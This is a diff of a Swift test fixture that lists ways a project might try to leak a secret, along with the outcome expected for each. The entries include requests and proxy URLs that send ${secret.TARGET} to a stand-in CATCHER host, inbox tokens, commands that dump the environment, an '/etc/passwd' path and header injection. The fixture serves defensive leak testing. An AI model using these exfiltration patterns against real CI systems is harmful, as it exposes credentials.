@@ -1,8 +1,8 @@
 /// One way in which a project could try to read a secret that it may use and not know, or one that it may not use at all.
 struct SecretAttempt: Sendable {
-  /// What comes of it, as the event log says it.
+  /// The result, from the event log.
   enum Ending: String, Sendable {
-    /// Nothing is walked.
+    /// Nothing runs.
     case refused
     case broken, failed, passed
   }
@@ -13,12 +13,12 @@ struct SecretAttempt: Sendable {
   var gets = "nothing"
   /// A scenario, of which the title is left out. Places of the two servers are written `TENANT` and `CATCHER`.
   var scenario = "steps:\n  - screen: identification\n    messages: none\n"
-  /// The whole tenants.yaml, where it is not the usual one.
+  /// The whole tenants.yaml, if it is not the default one.
   var tenants: String?
-  /// Files beside, by their paths in the project; one that begins with `->` is a link.
+  /// Further files, by their paths in the project; one that begins with `->` is a link.
   var files: [String: String] = [:]
 
-  /// What the usual tenant says of itself.
+  /// The keys of the default tenant.
   static let usual = """
         dialect: journey-flow
         issuer: TENANT
@@ -38,13 +38,13 @@ struct SecretAttempt: Sendable {
     SecretAttempt(way: way, ending: ending, gets: gets, scenario: "steps:\n" + lines.map { "  \($0)\n" }.joined())
   }
 
-  /// Types the secret where the tenant shows it again, and looks at what comes.
+  /// Types the secret into a form whose response repeats it, and looks at that.
   static func shown(_ way: String, _ ending: Ending, gets: String = "nothing", _ lines: String...) -> SecretAttempt {
     let typed = "steps:\n  - screen: identification\n    answers: {identifier: \"${secret.TARGET}\"}\n"
     return SecretAttempt(way: way, ending: ending, gets: gets, scenario: typed + lines.map { "  \($0)\n" }.joined())
   }
 
-  /// What the tenant said after the secret was typed, captured with what a closure adds.
+  /// The tenant's text after the secret was typed, captured with additions of a closure.
   static func captured(_ way: String, _ ending: Ending, gets: String = "nothing", _ capture: String, _ lines: String...) -> SecretAttempt {
     let typed = "steps:\n  - screen: identification\n    answers: {identifier: \"${secret.TARGET}\"}\n"
     let taken = "  - screen: identification\n    messages: any\n    capture: {v: \(capture)}\n"
@@ -52,7 +52,7 @@ struct SecretAttempt: Sendable {
   }
 }
 
-/// What is refused before anything is walked, in a scenario.
+/// What is refused before anything runs, in a scenario.
 extension SecretAttempt {
   static let inScenarios: [SecretAttempt] = [
     .steps("a request to another host, with the secret in the address", .refused, "- request: GET CATCHER/?a=${secret.TARGET}"),
@@ -98,12 +98,12 @@ extension SecretAttempt {
   ]
 }
 
-/// What is refused before anything is walked, in tenants.yaml and among the files.
+/// What is refused before anything runs, in tenants.yaml and among the files.
 extension SecretAttempt {
   static let inTenants: [SecretAttempt] = [
     .tenant("another issuer", "rate: 50/s").replacingIssuer(with: "CATCHER"),
     .tenant("an issuer that names the tenant as a user", "rate: 50/s").replacingIssuer(with: "http://TENANTHOST@CATCHERHOST"),
-    .tenant("an issuer out of a variable", "rate: 50/s").replacingIssuer(with: "${env.GITHUB_TOKEN}"),
+    .tenant("an issuer from a variable", "rate: 50/s").replacingIssuer(with: "${env.GITHUB_TOKEN}"),
     .tenant(
       "a tenant like the named one with another issuer", "rate: 50/s", after: "  evil: {like: acme, issuer: \"CATCHER\"}\ndefault: evil\n"),
     .tenant(
@@ -111,13 +111,13 @@ extension SecretAttempt {
       after: "  evil: {dialect: journey-flow, mock: {at: \"CATCHER\"}, client: {id: a, redirect_uri: \"https://a.test/\"}}\ndefault: evil\n"
     ),
     .tenant("a proxy", "proxy: CATCHER"),
-    .tenant("a proxy that is told the secret", "proxy: http://CATCHERHOST/${secret.TARGET}"),
+    .tenant("a proxy that gets the secret", "proxy: http://CATCHERHOST/${secret.TARGET}"),
     .tenant("the secret as the host of a proxy", "proxy: \"http://${secret.TARGET}:3128\""),
-    .tenant("a proxy whose address is cut inside of the secret", "proxy: \"http://ci:${secret.TARGET}@127.0.0.1:3128\""),
+    .tenant("a proxy whose address is cut inside the secret", "proxy: \"http://ci:${secret.TARGET}@127.0.0.1:3128\""),
     .tenant("an inbox elsewhere that is shown the secret", "inbox: {http: {url: \"CATCHER\", token: \"${secret.TARGET}\"}}"),
     .tenant("a command as inbox", "inbox: {command: [env]}"),
     .tenant("a command as device", "device: {command: [env]}"),
-    .tenant("certificates that nobody checks", "tls: {verify: false}"),
+    .tenant("certificates that are not checked", "tls: {verify: false}"),
     .tenant("a file of the machine as certificates", "tls: {ca: /etc/passwd}"),
     .tenant("the secret in the client's id", "rate: 50/s").replacing("id: acme-web", with: "id: \"${secret.TARGET}\""),
     .tenant("a secret that the policy does not name, in a header", "headers: {X-Key: \"${secret.OTHER}\"}"),
@@ -137,7 +137,7 @@ extension SecretAttempt {
   }
 }
 
-/// What is walked, on a tenant that shows again what is typed.
+/// What runs, on a tenant that repeats what is typed.
 extension SecretAttempt {
   static let walked: [SecretAttempt] = [
     .captured("capturing what the tenant shows again", .failed, gets: "`***`", "{message: identifier}", "- check: {v: zzz}"),
@@ -166,7 +166,7 @@ extension SecretAttempt {
       "a branch by how it begins", .failed, gets: "nothing: it cannot be judged", "{message: identifier}",
       "- when: {v: {contains: Zq}}", "  screen: identification"),
     .captured(
-      "a guess of all of it", .failed, gets: "one bit: whether the guess is right", "{message: identifier}",
+      "a guess of the whole secret", .failed, gets: "one bit: whether the guess is right", "{message: identifier}",
       "- check: {v: Hello wrong-guess-0001}"),
     .shown(
       "a text that is compared and cut", .failed, gets: "`***`", "- screen: identification",
@@ -175,14 +175,14 @@ extension SecretAttempt {
     .steps("the secret as the screen that is expected", .failed, gets: "`***`", "- screen: \"${secret.TARGET}\""),
     .steps(
       "the secret as a button", .failed, gets: "`***`", "- screen: identification", "  press: \"${secret.TARGET}\""),
-    .steps("a host out of a variable", .broken, "- request: GET ${vars_host}/?a=${secret.TARGET}").settingHost,
+    .steps("a host from a variable", .broken, "- request: GET ${vars_host}/?a=${secret.TARGET}").settingHost,
     .steps("a line break in a header", .broken, "- request: GET /x", "  headers: {X-Key: \"a\\r\\nHost: CATCHERHOST\"}"),
     .steps("the secret as an address that is opened", .broken, "- screen: identification", "- open: \"CATCHER/${secret.TARGET}\""),
-    .cut("typing it with a blank behind it", "${secret.TARGET} "),
-    .cut("typing it in lower case with a blank behind it", "${lower(secret.TARGET)} "),
-    .cut("typing it behind a word that the tenant drops", "plain:${secret.TARGET}"),
+    .cut("typing it with a space after it", "${secret.TARGET} "),
+    .cut("typing it in lower case with a space after it", "${lower(secret.TARGET)} "),
+    .cut("typing it after a word that the tenant drops", "plain:${secret.TARGET}"),
     .steps(
-      "a snapshot of what was typed behind such a word", .passed, gets: "`***`, also in the file", "- screen: identification",
+      "a snapshot of text typed after such a word", .passed, gets: "`***`, also in the file", "- screen: identification",
       "  answers: {identifier: \"plain:${secret.TARGET}\"}", "- screen: identification", "  messages: any", "  snapshot: other"),
     .steps("the secret as a host", .broken, "- request: \"GET https://${secret.TARGET}/\""),
     .steps("the secret as a port", .broken, "- request: \"GET http://127.0.0.1:${secret.TARGET}/\""),
@@ -190,9 +190,9 @@ extension SecretAttempt {
     .steps(
       "what a command of the policy prints of its key", .failed, gets: "`***`", "- run: [printenv, SEED_KEY]", "  capture: {v: output}",
       "- check: {v: zzz}"),
-    .steps("what a command of the policy complains of", .failed, gets: "`***`", "- run: [sh, -c, \"echo $SEED_KEY >&2; exit 4\"]"),
+    .steps("what a command of the policy prints as an error", .failed, gets: "`***`", "- run: [sh, -c, \"echo $SEED_KEY >&2; exit 4\"]"),
     SecretAttempt(
-      way: "a mock of the project's own, whose screens tell what was typed", ending: .failed, gets: "a value that stands in for it",
+      way: "a mock of the project's own, whose screens tell what was typed", ending: .failed, gets: "a placeholder value",
       scenario: "tenant: evil\nsteps:\n  - screen: ask\n    answers: {secret: \"${secret.TARGET}\"}\n  - screen: first\n"),
   ]
 
